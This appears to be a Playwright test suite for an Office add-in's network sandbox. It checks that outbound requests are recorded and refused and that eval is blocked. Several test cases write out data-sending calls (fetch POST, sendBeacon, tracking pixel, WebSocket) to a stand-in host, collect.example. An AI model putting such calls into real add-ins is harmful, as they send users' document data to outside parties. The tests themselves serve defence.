import type { Browser, Page } from 'playwright-core';
import { launchBrowser } from './support/browser';
import { Network, ORIGIN } from './support/network';
import { SandboxPage } from './support/sandbox-page';

jest.setTimeout(180_000);

let browser: Browser | null = null;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

/** What the recorder holds after a page without a policy of its own has done something. */
async function recordedAfter(act: (page: Page) => Promise<unknown>): Promise<readonly string[]> {
  if (!browser) throw new Error('no browser');
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const network = new Network('fixture');
  await network.attach(context);
  try {
    const page = await context.newPage();
    await page.goto(`${ORIGIN}/addin/taskpane.html`);
    await act(page);
    // Beacons and sockets are sent a moment later.
    await page.waitForTimeout(300);
    return network.unexpected;
  } finally {
    await context.close();
  }
}

describe('the recorder of requests', () => {
  test.each<readonly [string, (page: Page) => Promise<unknown>]>([
    ['nothing', () => Promise.resolve()],
    ['a file of the site', (page) => page.evaluate(() => fetch('fixture.js').then((answer) => answer.text()))],
    [
      'Microsoft’s library once more',
      (page) => page.addScriptTag({ url: 'https://appsforoffice.microsoft.com/lib/1/hosted/office.js' }),
    ],
  ])('lets through: %s', async (_what, act) => {
    expect(await recordedAfter(act)).toEqual([]);
  });

  test.each<readonly [string, string, (page: Page) => Promise<unknown>]>([
    [
      'a request of a script',
      'GET https://collect.example/a?cells=1',
      (page) => page.evaluate(() => fetch('https://collect.example/a?cells=1').catch(() => null)),
    ],
    [
      'data sent away',
      'POST https://collect.example/b',
      (page) =>
        page.evaluate(() => fetch('https://collect.example/b', { method: 'POST', mode: 'no-cors' }).catch(() => null)),
    ],
    [
      'a beacon',
      'POST https://collect.example/beacon',
      (page) => page.evaluate(() => navigator.sendBeacon('https://collect.example/beacon', 'x')),
    ],
    [
      'a picture',
      'GET https://collect.example/dot.gif',
      (page) =>
        page.evaluate(() => {
          new Image().src = 'https://collect.example/dot.gif';
        }),
    ],
    [
      'a script of somebody else',
      'GET https://cdn.example/lib.js',
      (page) => page.addScriptTag({ url: 'https://cdn.example/lib.js' }).catch(() => null),
    ],
    [
      'another file on Microsoft’s host',
      'GET https://appsforoffice.microsoft.com/telemetry',
      (page) => page.evaluate(() => fetch('https://appsforoffice.microsoft.com/telemetry').catch(() => null)),
    ],
    [
      'a frame',
      'GET https://frames.example/',
      (page) =>
        page.evaluate(() => {
          const frame = document.createElement('iframe');
          frame.src = 'https://frames.example/';
          document.body.append(frame);
        }),
    ],
    [
      'a socket',
      'SOCKET wss://collect.example/live',
      (page) =>
        page.evaluate(() => {
          new WebSocket('wss://collect.example/live');
        }),
    ],
  ])('says so and refuses: %s', async (_what, recorded, act) => {
    expect(await recordedAfter(act)).toEqual([recorded]);
  });
});

describe('a test in the sandbox', () => {
  const open = () => {
    if (!browser) throw new Error('no browser');
    return SandboxPage.open(browser);
  };

  test('passes when its page has asked for nothing else', async () => {
    const sandbox = await open();
    await expect(sandbox.close()).resolves.toBeUndefined();
  });

  test('fails when its page has asked for anything else', async () => {
    const sandbox = await open();
    await sandbox.page.evaluate(() => fetch('https://collect.example/').catch(() => null));
    await expect(sandbox.close()).rejects.toThrow(/unexpectedRequests[^]*https:\/\/collect\.example\//);
  });

  test('the pane’s own policy refuses other hosts and eval before a request is made', async () => {
    const sandbox = await open();
    await sandbox.press('Kiểm tra');
    await sandbox.pane.getByRole('heading').first().waitFor();
    const refused = await sandbox.pane.locator('body').evaluate(async () => {
      const answer = await fetch('https://collect.example/').then(
        () => 'answered',
        () => 'refused',
      );
      // Later, because what the test itself evaluates may do more than the page.
      const run = await new Promise((resolve) => {
        setTimeout(() => {
          try {
            resolve((window as { eval(text: string): unknown }).eval('"ran"'));
          } catch (error) {
            resolve(error instanceof Error ? error.name : '');
          }
        }, 0);
      });
      return [answer, run];
    });
    expect(refused).toEqual(['refused', 'EvalError']);
    // No request has reached the recorder.
    await sandbox.close();
  });
});
